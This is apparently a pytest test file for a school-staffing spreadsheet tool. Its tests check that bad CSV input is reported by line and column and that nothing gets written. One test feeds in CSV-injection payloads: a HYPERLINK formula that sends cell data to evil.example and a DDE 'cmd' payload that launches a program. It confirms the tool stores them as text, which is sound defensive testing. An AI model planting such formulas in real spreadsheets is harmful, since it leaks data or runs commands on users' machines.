"""Hostile and careless staff and minority files, and names that reach the teacher workbook:
every bad cell is named (file, line, column, what to type), nothing is written, no traceback."""

from __future__ import annotations

from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from ssfr_xl.cli import cli
from ssfr_xl.district_book import read_district
from ssfr_xl.errors import RosterError
from ssfr_xl.model import GRADES, School
from ssfr_xl.policy import load_policy
from ssfr_xl.sources.school_values import read_school_values
from ssfr_xl.sources.staff import MAX_SALARY, read_staff_csv
from ssfr_xl.teachers import teacher_report
from ssfr_xl.teachers_book import write_teacher_workbook

POLICY = load_policy(None).policy  # TCH average salary 92,000
HEADER = "school_id,job_class,fte,salary,years,credential,out_of_field,name\n"
ZERO = "01999996000013"  # a CDS code with a leading zero, as the sample district's


def run(*args: object):
    return CliRunner().invoke(cli, [str(a) for a in args], prog_name="ssfr-xl")


def school(school_id: str, pupils: int, frpm: int, name: str = "") -> School:
    grades = dict.fromkeys(GRADES, 0)
    grades["4"] = pupils
    return School(school_id=school_id, name=name or f"School {school_id}", level="Elementary",
                  low_grade="4", high_grade="4", enrollment_by_grade=grades, frpm=frpm,
                  unduplicated=frpm)


SCHOOLS = [school(ZERO, 100, 10), school("S2", 100, 90)]


def problems(tmp_path: Path, text: str, *, encoding: str = "utf-8") -> str:
    f = tmp_path / "staff.csv"
    f.write_bytes(text.encode(encoding))
    with pytest.raises(RosterError) as e:
        read_staff_csv(f, POLICY, SCHOOLS)
    return str(e.value)


def test_excel_money_text_is_read_to_the_cent(tmp_path: Path) -> None:
    # Excel saves a currency cell as "$85,000.50"; BOM as Excel's "CSV UTF-8"
    f = tmp_path / "staff.csv"
    f.write_bytes(("\ufeff" + HEADER + f'{ZERO},TCH,1,"$85,000.50",3,FULL,yes,A\n'
                   'S2,TCH,0.5,"46,000",0,Clear,n,B\n').encode("utf-8"))
    a, b = read_staff_csv(f, POLICY, SCHOOLS)
    assert (a.salary, a.credential, a.out_of_field) == (85_000.50, "full", True)
    assert (b.salary, b.fte, b.fully_credentialed) == (46_000.0, 0.5, True)


def test_semicolon_files_have_decimal_commas(tmp_path: Path) -> None:
    # Excel separates with semicolons where the decimal separator is a comma (es-ES, de-DE):
    # there "0,5" is half an FTE and "46.000,25" is 46,000.25 dollars. Before: 0,5 was refused
    # and "12,500" (12.5 years) was read as 12,500.
    f = tmp_path / "staff.csv"
    f.write_bytes((HEADER.replace(",", ";") + f'{ZERO};TCH;0,5;46.000,25;12,500;full;N;A\n'
                   f'{ZERO};TCH;1;"$85,000.50";3;full;N;B\n'  # US dollars stay as they are
                   'S2;TCH;1;90000 \u20ac;2;full;N;C\n').encode("utf-8"))
    a, b, c = read_staff_csv(f, POLICY, SCHOOLS)
    assert (a.fte, a.salary, a.years) == (0.5, 46_000.25, 12.5)
    assert b.salary == 85_000.50 and c.salary == 90_000.0


def test_absurd_numbers_are_named(tmp_path: Path) -> None:
    text = problems(tmp_path, HEADER +
                    f"{ZERO},TCH,-1,85000,3,full,N,negative FTE\n"
                    f"{ZERO},TCH,nan,inf,3,full,N,nan and inf\n"
                    f"{ZERO},TCH,1,85000,99,full,N,99 years\n"
                    f"{ZERO},TCH,0.5,1e300,3,full,N,huge\n"
                    f"{ZERO},TCH,1,100000000,3,full,N,cents typed as dollars\n"
                    f"{ZERO},TCH,1,85000.005,3,full,N,a fraction of a cent\n"
                    f"{ZERO},TCH,1,85000,3,full,N,fine\n")
    assert "staff.csv has 7 problems" in text
    assert "line 2, column 'fte': '-1' is not an FTE" in text
    assert "line 3, column 'fte': 'nan' is not an FTE" in text
    assert "line 3, column 'salary': 'inf' is not a salary" in text
    assert ("line 4, column 'years': '99' is not a number of years — type the years of "
            "experience, from 0 to 60") in text
    assert (f"line 5, column 'salary': 1e300 is more than ${MAX_SALARY:,.0f} a year for one "
            "position") in text
    assert "line 6, column 'salary': 100000000 is more than $1,000,000" in text
    assert "line 7, column 'salary': 85000.005 has fractions of a cent" in text
    assert "line 8" not in text


def test_leading_zeros_lost_by_excel_are_named(tmp_path: Path) -> None:
    text = problems(tmp_path, HEADER + "1999996000013,TCH,1,85000,3,full,N,x\n"
                                       "1.99999600000E+12,TCH,1,85000,3,full,N,y\n")
    assert ("line 2, column 'school_id': '1999996000013' is not a school of the district; it "
            f"looks like {ZERO} with its leading zeros dropped by a spreadsheet — format the "
            f"column as Text and type {ZERO}") in text
    assert ("line 3, column 'school_id': '1.99999600000E+12' is not a school ID: a spreadsheet "
            "showed a long code as a number and lost its digits") in text


def test_job_class_typed_loosely_gets_a_suggestion(tmp_path: Path) -> None:
    # lower case, and a Cyrillic "Т" (U+0422) that looks like the Latin T
    text = problems(tmp_path, HEADER + f"{ZERO},tch,1,85000,3,full,N,x\n"
                                       f"{ZERO},\u0422CH,1,85000,3,full,N,y\n")
    assert "line 2, column 'job_class': 'tch' is not a job class" in text
    assert "— type TCH exactly." in text
    assert "line 3, column 'job_class': 'Т<U+0422>CH' is not a job class" in text


@pytest.mark.parametrize(("text", "message"), [
    ("", "minority.csv is empty — it needs the header school_id,minority"),
    ("school_id,minority\n", "minority.csv has a header but no rows"),
    ("school_id,minority\n\n\n", "minority.csv has a header but no rows"),
    (f"school_id,minority\n{ZERO},101\n", "101 must be a whole number of pupils, at most the "
                                          "school's enrollment (100)"),
    (f"school_id,minority\n{ZERO},=1+1\n", "'=1+1' is not a number of minority pupils"),
    ("school_id,minority\n1999996000013,5\n", f"it looks like {ZERO} with its leading zeros"),
    (f"school_id,minority\n{ZERO},5\n{ZERO},5\n", f"school {ZERO} is listed twice"),
    ("school_id,minority,Minority\n", "column 'minority': the column appears twice (columns 2 "
                                      "and 3)"),
])
def test_minority_file_structure(tmp_path: Path, text: str, message: str) -> None:
    # before: a header-only or blank file silently dropped the minority sheet
    f = tmp_path / "minority.csv"
    f.write_text(text, encoding="utf-8")
    with pytest.raises(RosterError) as e:
        read_school_values(f, "minority", SCHOOLS, what="a number of minority pupils",
                           pupils=True)
    assert message in str(e.value)


def test_names_that_look_like_formulas_stay_text(tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    schools = [school("S1", 100, 10, name=evil), school("S2", 100, 90, name="+SUM(1,2)")]
    staff_rows = [("S1", 90_000.0), ("S2", 94_000.0)]
    from ssfr_xl.sources.staff import StaffPosition

    report = teacher_report(schools, POLICY, [StaffPosition(i, "TCH", 1.0, pay, 5, "full",
                                                            False) for i, pay in staff_rows])
    out = tmp_path / "t.xlsx"
    write_teacher_workbook(out, report, "=cmd|' /C calc'!A0", "2026-27")
    ws = openpyxl.load_workbook(out)["Salary gap"]
    names = {ws.cell(r, 2).value: ws.cell(r, 2).data_type for r in range(1, ws.max_row + 1)}
    assert names[evil] == "s" and names["+SUM(1,2)"] == "s"  # text, never a formula
    # the gap by hand: 90,000 - 92,000 = -2,000; 94,000 - 92,000 = +2,000
    gaps = {ws.cell(r, 1).value: ws.cell(r, 16).value for r in range(1, ws.max_row + 1)}
    assert (gaps["S1"], gaps["S2"]) == (-2000, 2000)


def test_a_school_without_pupils_is_not_ranked() -> None:
    # a school of 0 pupils has no poverty share: it is left out of quartiles and the table
    schools = [school("S1", 100, 10), school("S2", 100, 90), school("E0", 0, 0)]
    from ssfr_xl.sources.staff import StaffPosition

    report = teacher_report(schools, POLICY, [StaffPosition("E0", "TCH", 1.0, 90_000, 5,
                                                            "full", False)])
    assert [s.school.school_id for s in report.schools] == ["S1", "S2"]
    assert report.district.teacher_fte == 0  # E0's teacher is not pooled either


def test_cli_refuses_huge_salary_and_writes_nothing(tmp_path: Path) -> None:
    district = tmp_path / "d.xlsx"
    assert run("init", district, "--sample", "2").exit_code == 0
    ids = [s.school_id for s in read_district(district).schools]
    staff = tmp_path / "staff.csv"
    staff.write_text(HEADER + f"{ids[0]},TCH,1,1e300,3,full,N,x\n", encoding="utf-8")
    out = tmp_path / "t.xlsx"
    result = run("teachers", district, "--staff", staff, "--out", out)
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert "staff.csv line 2, column 'salary': 1e300 is more than $1,000,000" in result.output
    assert not out.exists()
    result = run("init", tmp_path / "n.xlsx", "--sample", "2", "--staff", staff)
    assert result.exit_code == 1 and "1e300 is more than" in result.output
    assert not (tmp_path / "n.xlsx").exists()


def test_fewer_than_four_schools_still_have_a_hard_to_staff_school() -> None:
    from ssfr_xl.sources.staff import StaffPosition

    # poverty 10%, 50%, 90%: ranks 0, 1, 2 of 3 -> floor(4r/3)+1 = Q1, Q2, Q3 (no Q4)
    schools = [school("S1", 100, 10), school("S2", 100, 50), school("S3", 100, 90)]
    staff = [StaffPosition(i, "TCH", 1.0, 90_000, 10, "full", False) for i in ("S1", "S2", "S3")]
    staff.append(StaffPosition("S3", "TCH", 0.5, 45_000, 1, "full", False))  # inexperienced
    report = teacher_report(schools, POLICY, staff)
    assert [s.poverty_quartile for s in report.schools] == [1, 2, 3]
    # before: nobody was in Q4, the basis was 0 everywhere and the HTS pool went to no school;
    # now the highest-poverty school counts its 1.0 FTE experienced, qualified teacher
    assert report.hard_to_staff_basis() == {"S1": 0.0, "S2": 0.0, "S3": 1.0}
    # with 4 or more schools Q4 is the hard-to-staff quartile, as before
    four = schools + [school("S4", 100, 95)]
    basis = teacher_report(four, POLICY, staff + [StaffPosition("S4", "TCH", 1.0, 90_000, 3,
                                                                "full", False)])
    assert basis.hard_to_staff_basis() == {"S1": 0.0, "S2": 0.0, "S3": 0.0, "S4": 1.0}


def test_schools_left_out_of_the_minority_file_are_noted(tmp_path: Path) -> None:
    # before: a forgotten row silently dropped the school from the minority quartiles
    district = tmp_path / "d.xlsx"
    assert run("init", district, "--sample", "3").exit_code == 0
    ids = [s.school_id for s in read_district(district).schools]
    staff = tmp_path / "staff.csv"
    staff.write_text(HEADER + "".join(f"{i},TCH,1,90000,5,full,N,x\n" for i in ids),
                     encoding="utf-8")
    minority = tmp_path / "minority.csv"
    minority.write_text(f"school_id,minority\n{ids[0]},10\n", encoding="utf-8")
    result = run("teachers", district, "--staff", staff, "--minority", minority, "--out",
                 tmp_path / "t.xlsx")
    assert result.exit_code == 0, result.output
    assert (f"Note: 2 schools (e.g. {ids[1]}) have no row in the minority file, so the "
            "minority quartiles leave them out") in result.output
